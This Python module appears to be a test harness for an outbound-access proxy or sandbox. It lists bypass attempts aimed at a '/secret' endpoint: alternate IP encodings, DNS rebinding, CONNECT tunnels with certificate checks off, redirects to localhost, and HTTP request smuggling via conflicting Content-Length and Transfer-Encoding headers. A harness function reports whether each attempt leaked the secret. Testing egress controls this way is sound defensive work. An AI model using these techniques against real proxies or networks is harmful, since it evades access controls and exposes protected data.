"""Ways around the approval, each a function that returns what it got hold of. Run as one source text, caged or not.

Everything goes for `/secret`: at this machine's own address, at a host nobody approved, or at an approved host by a
request nobody could judge.
"""

import json
import os
import socket
import ssl
import urllib.request
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

Targets = dict[str, Any]


def connect_directly(targets: Targets) -> str:
    with socket.create_connection(("127.0.0.1", targets["http_port"]), timeout=5) as stream:
        return ask(stream, b"GET /secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")


def connect_over_ipv6(targets: Targets) -> str:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM):
        return f"opened an IPv6 socket: {targets['secret']}"


def ask_dns(targets: Targets) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.settimeout(5)
        datagram.sendto(b"what is the address of exfiltrated.example?", ("127.0.0.1", targets["udp_port"]))
        return datagram.recv(512).decode()


def fetch_unapproved_host(targets: Targets) -> str:
    return fetch(f"http://other.example:{targets['http_port']}/secret")


def fetch_unapproved_port(targets: Targets) -> str:
    return fetch(f"http://data.example:{targets['closed_port']}/secret")


def fetch_subdomain(targets: Targets) -> str:
    return fetch(f"http://www.data.example:{targets['http_port']}/secret")


def fetch_address(targets: Targets) -> str:
    return fetch(f"http://127.0.0.1:{targets['http_port']}/secret")


def fetch_decimal_address(targets: Targets) -> str:
    return fetch(f"http://2130706433:{targets['http_port']}/secret")


def fetch_octal_address(targets: Targets) -> str:
    return fetch(f"http://0177.0.0.01:{targets['http_port']}/secret")


def fetch_short_hexadecimal_address(targets: Targets) -> str:
    return fetch(f"http://0x7f.1:{targets['http_port']}/secret")


def fetch_mapped_address(targets: Targets) -> str:
    return fetch(f"http://[::ffff:127.0.0.1]:{targets['http_port']}/secret")


def fetch_behind_user_name(targets: Targets) -> str:
    line = f"GET http://data.example@other.example:{targets['http_port']}/secret HTTP/1.1"
    return through_proxy(f"{line}\r\nHost: other.example\r\nConnection: close\r\n\r\n")


def tunnel_to_address(targets: Targets) -> str:
    with tunnel(f"127.0.0.1:{targets['http_port']}") as stream:
        return ask(stream, b"GET /secret HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")


def tunnel_plain_text(targets: Targets) -> str:
    with tunnel(f"data.example:{targets['http_port']}") as stream:
        return ask(stream, b"GET /secret HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n")


def tunnel_for_another_name(targets: Targets) -> str:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with (
        tunnel(f"data.example:{targets['https_port']}") as stream,
        context.wrap_socket(stream, server_hostname="other.example") as secure,
    ):
        return ask(secure, b"GET /secret HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n")


def follow_redirect_to_private_address(targets: Targets) -> str:
    there = f"http://127.0.0.1:{targets['http_port']}/secret"
    return fetch(f"http://data.example:{targets['http_port']}/redirect?to={there}")


def follow_redirect_to_unapproved_host(targets: Targets) -> str:
    there = f"http://other.example:{targets['http_port']}/secret"
    return fetch(f"http://data.example:{targets['http_port']}/redirect?to={there}")


def fetch_rebound_name(targets: Targets) -> str:
    """The name is approved, but its owner points it at this machine."""
    return fetch(f"http://rebound.example:{targets['http_port']}/secret")


def reuse_connection_for_another_host(targets: Targets) -> str:
    port = targets["http_port"]
    first = f"GET http://data.example:{port}/birds.csv HTTP/1.1\r\nHost: data.example:{port}\r\n\r\n"
    second = (
        f"GET http://other.example:{port}/secret HTTP/1.1\r\nHost: other.example:{port}\r\nConnection: close\r\n\r\n"
    )
    return through_proxy(first + second)


def name_another_host_in_header(targets: Targets) -> str:
    return get_secret(targets, host="other.example")


def name_two_hosts(targets: Targets) -> str:
    return get_secret(targets, extra="Host: other.example\r\n")


def fold_header(targets: Targets) -> str:
    return get_secret(targets, extra="X-Note: one\r\n two\r\n")


def end_lines_carelessly(targets: Targets) -> str:
    return get_secret(targets, extra="X-Note: one\nX-Other: two\r\n")


def put_space_before_colon(targets: Targets) -> str:
    return get_secret(targets, extra="Content-Length : 0\r\n")


def smuggle_by_length_and_chunks(targets: Targets) -> str:
    extra = "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
    return get_secret(targets, extra=extra, method="POST", body="0\r\n\r\n")


def smuggle_by_two_lengths(targets: Targets) -> str:
    return get_secret(targets, extra="Content-Length: 0\r\nContent-Length: 30\r\n")


def smuggle_by_unknown_coding(targets: Targets) -> str:
    return get_secret(targets, extra="Transfer-Encoding: xchunked\r\n")


def upload_too_much(targets: Targets) -> str:
    url = f"http://data.example:{targets['http_port']}/secret"
    with urllib.request.urlopen(url, data=bytes(3 << 20), timeout=10) as answer:
        return f"{answer.read().decode()}: {targets['secret']}"


def get_secret(
    targets: Targets, *, host: str = "data.example", extra: str = "", method: str = "GET", body: str = ""
) -> str:
    port = targets["http_port"]
    line = f"{method} http://data.example:{port}/secret HTTP/1.1\r\nHost: {host}:{port}\r\n"
    answer = through_proxy(f"{line}Connection: close\r\n{extra}\r\n{body}")
    return f"{answer}: {targets['secret']}" if " 200 " in answer.partition("\r\n")[0] else answer


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read().decode()


def proxy_connection() -> socket.socket:
    where = urlsplit(os.environ["HTTP_PROXY"])
    return socket.create_connection((where.hostname, where.port), timeout=10)


def through_proxy(text: str) -> str:
    with proxy_connection() as stream:
        return ask(stream, text.encode())


def tunnel(authority: str) -> socket.socket:
    stream = proxy_connection()
    stream.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    answer = b""
    while not answer.endswith(b"\r\n\r\n"):
        piece = stream.recv(1)
        if not piece:
            break
        answer += piece
    if b" 200 " not in answer.partition(b"\r\n")[0]:
        stream.close()
        raise PermissionError(answer.decode())
    return stream


def ask(stream: socket.socket, request: bytes) -> str:
    stream.sendall(request)
    answer = b""
    while piece := stream.recv(65536):
        answer += piece
    return answer.decode("latin-1")


def run_attack(attack: Callable[[Targets], str], targets: Targets) -> None:
    """Print what came of it, as one line of JSON."""
    try:
        got = attack(targets)
    except Exception as error:  # noqa: BLE001  whatever stopped it, its test reads it
        print(json.dumps({"leak": False, "detail": f"{type(error).__name__}: {error}"}))  # noqa: T201
    else:
        print(json.dumps({"leak": targets["secret"] in got, "detail": got}))  # noqa: T201
